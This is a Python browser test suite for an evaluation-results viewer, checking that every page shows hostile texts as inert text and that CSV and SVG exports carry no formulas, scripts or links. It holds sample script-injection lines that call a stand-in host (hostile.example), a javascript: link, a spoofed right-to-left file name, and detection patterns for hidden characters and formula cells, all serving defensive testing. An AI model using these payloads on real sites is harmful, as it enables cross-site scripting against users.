"""Hostile content on every page: nothing runs, nothing is loaded, and every text can be read as text.

One store has each of `calipers.testing.HOSTILE_TEXTS` in every place that a model, a dataset or a person writes (`hostile.py`). The policy of
the pages would stop a script that got through; what these tests ask is that none comes so far, so a refusal of the policy fails them, too.
"""

import csv
import io
import re
from collections.abc import Callable
from typing import Any, Final, NamedTuple
from urllib.parse import quote

import pytest
from lxml import etree

from calipers.stores import SqliteStore
from calipers.testing import HOSTILE_TEXTS, ServedViewer
from calipers.viewer.case_id import case_id
from calipers.views.html import write_html

from .conftest import TELL_OF_REFUSALS, Watch, in_thread, settled, until
from .hostile import (
    ALL,
    DATASET,
    DEEP,
    LONG,
    PERSON,
    QUESTION,
    TEXTS,
    WIDE,
    HostileRuns,
    answer,
    dataset,
    keep_hostile,
    mild,
)

INTRUDERS = r"""
() => {
  const found = [];
  const allowed = { IMG: (e) => e.src.startsWith(`blob:${location.origin}/`) && e.className === "chip-picture", SCRIPT: (e) => e.src.startsWith(`${location.origin}/static/`) || e.type === "application/json", LINK: (e) => e.href.startsWith(`${location.origin}/static/`) };
  for (const element of document.querySelectorAll("script, link, style, iframe, frame, object, embed, base, img, image, picture, video, source, template, foreignObject, animate, set, math, marquee, meta[http-equiv], [srcdoc], [formaction], [ping], [srcset]")) {
    if (!allowed[element.tagName]?.(element)) found.push(element.outerHTML.slice(0, 100));
  }
  const hidden = /[\u0000-\u0008\u000e-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.parentElement.tagName !== "SCRIPT" && hidden.test(node.data)) found.push(`hidden characters in ${node.parentElement.tagName}.${node.parentElement.className}: ${JSON.stringify(node.data.match(hidden)[0])} in ${node.data.slice(0, 60)}`);
  }
  if (hidden.test(document.title)) found.push(`hidden characters in the title`);
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) found.push(`${name} of ${element.tagName}`);
      if (/^(title|aria-label|placeholder|alt)$/.test(name) && hidden.test(value)) found.push(`hidden characters in ${name} of ${element.tagName}.${element.className}: ${value.slice(0, 60)}`);
      if (!/^(href|src|action|xlink:href|data|poster|background)$/.test(name) || element.tagName === "LINK") continue;
      const target = new URL(value, location.href);
      const isOurs = target.origin === location.origin || target.href.startsWith(`blob:${location.origin}/`);
      const isAway = element.tagName === "A" && /^(https?|mailto):$/.test(target.protocol) && element.target === "_blank" && /noopener noreferrer nofollow/.test(element.rel) && element.textContent.includes(target.href.slice(0, 40));
      if (!isOurs && !isAway) found.push(`${name} ${value.slice(0, 80)}`);
      if (isOurs && element.classList.contains("away")) found.push(`a link of a model to this server: ${value}`);
    }
  }
  if ("h69" in {}) found.push("objects were changed");
  return [...new Set(found)].slice(0, 10);
}
"""
"""What is on the page and must not be: elements that load or run, links that do, and characters that change how a text reads."""

OPEN = """
() => {
  const closed = [...document.querySelectorAll("details:not([open])")];
  closed.forEach((each) => (each.open = true));
  const more = [...document.querySelectorAll("button")].filter((each) => /^(Show (more|all)|All \\d|Table$|load$)/.test(each.textContent.trim()) && each.checkVisibility() && !each.disabled);
  more.slice(0, 60).forEach((each) => each.click());
  return closed.length + more.length;
}
"""
"""Opens what is closed, and says how much that was."""


class Visited(NamedTuple):
    """A page, and what has to be seen on it."""

    path: Callable[[HostileRuns], str]
    do: Callable[[Any], None] = lambda page: None
    """Opens the rest."""
    least: int = 1
    """How many of the texts must be found on it, by their marks."""
    whole: bool = False
    """Whether all of them are there, each with what can be read of it letter by letter."""


def case_page(query: str = "", name: str = ALL) -> Callable[[HostileRuns], str]:
    return lambda runs: f"/runs/{runs.first}/cases/{case_id(name)}{query}"


def named(text: str) -> str:
    return quote(text.encode("utf-8", "backslashreplace"), safe="")


def scroll(page: Any) -> None:
    """Show all steps of a conversation, stretch by stretch: what is seen is collected."""
    for stretch in page.locator("[data-stretch]").all():
        stretch.scroll_into_view_if_needed()
        until(lambda stretch=stretch: stretch.get_attribute("data-drawn"), lambda drawn: drawn == "1")
        settled(page)
        assert page.evaluate(INTRUDERS) == []
        page.evaluate("() => (window.seen += document.body.innerText)")


def look_at_steps(page: Any) -> None:
    """Go through the steps of a waterfall by keys, and open what each was given and gave."""
    page.locator(".trace-detail .value").first.wait_for()
    for _ in range(8):
        page.keyboard.press("e")
        settled(page)
        page.evaluate(OPEN)
        assert page.evaluate(INTRUDERS) == []


def show(*names: str) -> Callable[[Any], None]:
    """Shows values in the ways that the page has for them."""

    def do(page: Any) -> None:
        for name in names:
            page.evaluate(
                "name => [...document.querySelectorAll('button')].filter((each) => each.textContent.trim() === name && !each.disabled).forEach((each) => each.click())",
                name,
            )
            page.evaluate(OPEN)
            assert page.evaluate(INTRUDERS) == [], name

    return do


ALL_LOOKS: Final = ("Text", "Markdown", "Tree", "Diff")

PAGES: Final[dict[str, Visited]] = {
    "runs": Visited(lambda runs: "/runs", whole=True),
    "dataset": Visited(lambda runs: f"/datasets/{named(DATASET)}", least=85),
    "run": Visited(lambda runs: f"/runs/{runs.first}", whole=True),
    "cases": Visited(lambda runs: f"/runs/{runs.first}/cases", least=40),
    "case at a glance": Visited(
        lambda runs: f"/runs/{runs.first}/cases?open={case_id(ALL)}",
        lambda page: page.locator(".peek").wait_for(),
        whole=True,
    ),
    "conversation": Visited(case_page(), scroll, whole=True),
    "waterfall": Visited(case_page("?view=waterfall"), look_at_steps, whole=True),
    "in and out": Visited(case_page("?view=io"), show(*ALL_LOOKS), whole=True),
    "difference": Visited(case_page("?view=io&diff=1"), whole=True),
    "JSON": Visited(case_page("?view=json"), show("Text"), least=80),
    "ten thousand levels": Visited(case_page(name=DEEP), show(*ALL_LOOKS)),
    "two hundred thousand keys": Visited(case_page(name=WIDE), show("Text")),
    "a line of two million": Visited(case_page(name=LONG), show("Markdown")),
    "HTML in Markdown": Visited(case_page("?view=io", TEXTS[48]), show("Markdown")),
    "picture": Visited(case_page("?view=io", TEXTS[52]), show("Look")),
    "history": Visited(lambda runs: f"/cases/{case_id(TEXTS[10])}?dataset={named(DATASET)}"),
    "compare": Visited(
        lambda runs: f"/compare?a={runs.first}&b={runs.second}",
        lambda page: page.get_by_role("heading", name="Flips").wait_for(),
        least=80,
    ),
    "compared case": Visited(
        lambda runs: f"/compare/{case_id(TEXTS[10])}?a={runs.first}&b={runs.second}", least=0
    ),
    "questions": Visited(lambda runs: "/label"),
    "label desk": Visited(lambda runs: f"/label?run={runs.first}&question={named(QUESTION)}"),
    "judges": Visited(lambda runs: "/judges", least=0),
    "no run": Visited(lambda runs: f"/runs/{named(TEXTS[10])}"),
    "no page": Visited(lambda runs: f"/runs/{named(TEXTS[0])}", least=0),
}
"""Every page of the viewer, and each of its views."""


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "runs.db"

    def keep():
        with SqliteStore(path) as store:
            return keep_hostile(store)

    return path, in_thread(keep)


@pytest.fixture(scope="module")
def hostile(hostile_runs):
    with ServedViewer(hostile_runs[0]) as served:
        yield served


@pytest.fixture(scope="module")
def runs(hostile_runs):
    return hostile_runs[1]


# ---------------------------------------------------------------------- pages


def test_every_page_shows_hostile_texts_as_text_and_runs_none(hostile, runs, visit):
    page = visit(hostile, "/label")
    page.watch.allowed.append("404")  # of a run, and a page, that is not there
    page.evaluate("name => localStorage.setItem('calipers:person', name)", PERSON)
    for name, visited in PAGES.items():
        page.goto(hostile.url + visited.path(runs))
        settled(page)
        page.evaluate("() => (window.seen = '')")
        for _ in range(3):
            if not page.evaluate(OPEN):
                break
            settled(page)
        visited.do(page)
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)
            assert page.evaluate(INTRUDERS) == [], name
        text = page.evaluate("() => window.seen + document.body.innerText")
        unread = [each.mark for each in HOSTILE_TEXTS if each.mark not in text]
        assert page.watch.unexpected == [], name
        assert len(TEXTS) - len(unread) >= (len(TEXTS) if visited.whole else visited.least), (name, unread)
        if visited.whole:
            assert [each.plain for each in HOSTILE_TEXTS if each.plain[:30] not in text] == [], name


BREACHES: Final = {
    "alert('h00')": "dialog: h00",
    "open('/runs')": "opened a window",
    "fetch('https://hostile.example/h00').catch(() => 0)": "policy: connect-src",
    "document.body.appendChild(new Image()).src = '//hostile.example/h00.png'": "policy: img-src",
    "document.body.appendChild(new Image()).src = '/api/v1/h00'": "console: .*/api/v1/h00",
    "setTimeout(() => { throw Error('h00') })": "error: h00",
    "document.body.innerHTML = '<b>h00</b>'": "policy: require-trusted-types-for",
    "document.body.setAttribute('onclick', 'alert(1)')": "policy: require-trusted-types-for",
    "document.createElement('script').setAttribute('src', '//hostile.example/h00.js')": "policy: require-trusted-types-for",
    "document.body.appendChild(document.createElement('iframe')).src = '/runs'": "policy: (frame|default)-src",
    "Object.assign(document.createElement('a'), {href: '/static/favicon.svg', download: 'h00'}).click()": "saved a file",
    "location.href = 'https://hostile.example/h00'": "request: https://hostile.example/h00",
}
"""What a hostile text would do, and what is said of it."""

INSERTED: Final = [
    "main.appendChild(document.createElement('object'))",
    "main.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'foreignObject'))",
    "main.appendChild(document.createElement('button')).setAttribute('formaction', '/runs')",
    "main.appendChild(document.createElement('form')).setAttribute('action', 'https://hostile.example')",
    "main.appendChild(document.createElement('a')).href = 'javascript:alert(1)'",
    "main.appendChild(document.createElement('a')).href = 'https://hostile.example'",
    "main.appendChild(document.createElement('p')).append('invoice\\u202egpj.exe')",
    "main.appendChild(document.createElement('p')).title = 'pass\\u200bword'",
]
"""What must not stand on a page."""


def test_whatever_gets_through_is_noticed(hostile, visit):
    page = visit(hostile, "/judges")
    settled(page)
    assert page.watch.complaints == []
    for does, complaint in BREACHES.items():
        page.evaluate(f"() => {{ try {{ void ({does}) }} catch {{}} }}")
        until(
            lambda: (page.wait_for_timeout(10), page.watch.complaints)[1],
            lambda found, complaint=complaint: any(re.search(complaint, each) for each in found),
        )
        page.watch.complaints.clear()
    page.close()
    page.watch.complaints.clear()


def test_whatever_stands_on_a_page_and_must_not_is_found(hostile, visit):
    page = visit(hostile, "/judges")
    settled(page)
    for inserted in INSERTED:
        assert page.evaluate(INTRUDERS) == []
        page.locator("main").evaluate(f"main => void ({inserted})")
        assert len(page.evaluate(INTRUDERS)) == 1, inserted
        page.locator("main").evaluate("main => main.lastChild.remove()")
    page.evaluate("() => void (Object.prototype.h69 = 1)")
    assert page.evaluate(INTRUDERS) == ["objects were changed"]


def test_the_texts_do_harm_where_nothing_stops_them(browser):
    """So that a page on which nothing happens is worth something."""
    context = browser.new_context()
    shown = HOSTILE_TEXTS[0]
    context.route("http://page.example/", lambda route: route.fulfill(body=f"<!doctype html><body>{shown.text}", content_type="text/html; charset=utf-8"))  # fmt: skip
    for shown in HOSTILE_TEXTS[:34]:
        if shown.aim in HARMLESS:
            continue
        page = context.new_page()
        watch = Watch("http://page.example")
        watch.on(page)
        page.goto("http://page.example/", wait_until="commit")
        until(
            lambda page=page, watch=watch: (page.wait_for_timeout(5), watch.complaints)[1],
            lambda found, shown=shown: any(shown.mark in said for said in found),
        )
        page.close()
    context.close()


HARMLESS: Final = {
    "script that is left when one is taken out",
    "comment that swallows the end of a script",
    "attribute",
    "text that changes its meaning when read twice",
    "page with another base",
    "looks that hide all",
}
"""What needs a part of a page around it, a filter before it, or a reader who presses something."""


# ---------------------------------------------------------------------- filters and files


def test_a_filter_of_any_text_is_answered_or_refused_with_its_place(hostile, runs):
    for text in TEXTS:
        for call in (f"runs/{runs.first}/cases?q=", "runs?q=", "filter/check?q="):
            answer = hostile.ask(call + named(text[:3000]))
            assert answer.status == 200 or answer.json()["error"]["at"] is not None, (call, text[:80])


def test_no_file_runs_in_a_spreadsheet(hostile, runs):
    one = f"run={runs.first}"
    both = f"a={runs.first}&b={runs.second}"
    for query in (
        "of=runs",
        f"of=cases&{one}",
        f"of=groups&{one}",
        f"of=slices&{one}&by=tag",
        f"of=trend&dataset={named(DATASET)}",
        f"of=differences&{both}",
        f"of=flips&{both}",
    ):
        answer = until(
            lambda query=query: hostile.ask(f"export.csv?{query}"), lambda found: found.status == 200
        )
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert re.fullmatch(
            r"attachment; filename=\"[\w. -]+\"(; filename\*=UTF-8''[\w.%!~-]+)?",
            answer.headers["content-disposition"],
        )
        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert len({len(row) for row in rows}) == 1
        assert len(rows) > 1
        for cell in (cell for row in rows for cell in row):
            assert not re.match(r"[\s\ufeff\u200b]*[=+@]|\t|[\s]*-(?![\d.])", cell), (query, cell)
            assert not re.search(r"[\0-\x08\x0b-\x1f]", cell), (query, cell)


def test_what_a_page_saves_is_whole_and_runs_nothing(hostile, runs, visit):
    page = visit(hostile, f"/runs/{runs.first}")
    page.watch.allowed.append("saved a file")
    settled(page)
    drawings, tables = page.get_by_role("button", name="SVG"), page.get_by_role("button", name="CSV")
    assert drawings.count() > 1
    assert tables.count() > 0
    for place in range(drawings.count()):
        with page.expect_download() as saved:
            drawings.nth(place).click()
        tree = etree.fromstring(saved.value.path().read_bytes())
        assert re.fullmatch(r"[\w-]+\.svg", saved.value.suggested_filename)
        for element in tree.iter():
            assert etree.QName(element).localname in {
                "svg",
                "g",
                "path",
                "rect",
                "line",
                "circle",
                "text",
                "tspan",
                "title",
                "polyline",
                "polygon",
            }
            assert not [name for name in element.attrib if name.startswith("on") or "href" in name]
            assert "url(" not in "".join(element.attrib.values())
    for place in range(tables.count()):
        with page.expect_download() as saved:
            tables.nth(place).click()
        text = saved.value.path().read_bytes().decode()
        for cell in (cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row):
            assert not re.match(r"[\s\ufeff\u200b]*[=+@]|\t|[\s]*-(?![\d.])", cell), cell


def test_the_report_of_one_file_shows_them_as_text(browser, tmp_path):
    def write():
        report = dataset(mild, monsters=False).evaluate_sync(answer, name=TEXTS[8], progress=False)
        return write_html(report, tmp_path / "report.html")

    address = in_thread(write).as_uri()
    context = browser.new_context(offline=True)
    context.add_init_script(TELL_OF_REFUSALS)
    page = context.new_page()
    watch = Watch(address.rpartition("/")[0])
    watch.on(page)
    page.goto(address)
    page.evaluate(OPEN)
    page.get_by_role("button", name=ALL, exact=True).dispatch_event("click")
    text = page.locator("body").inner_text()
    assert [each.plain for each in HOSTILE_TEXTS if each.plain[:30] not in text] == []
    assert page.locator("iframe, object, embed, base, img, form, link, meta[http-equiv=refresh]").count() == 0
    assert watch.complaints == []
    context.close()
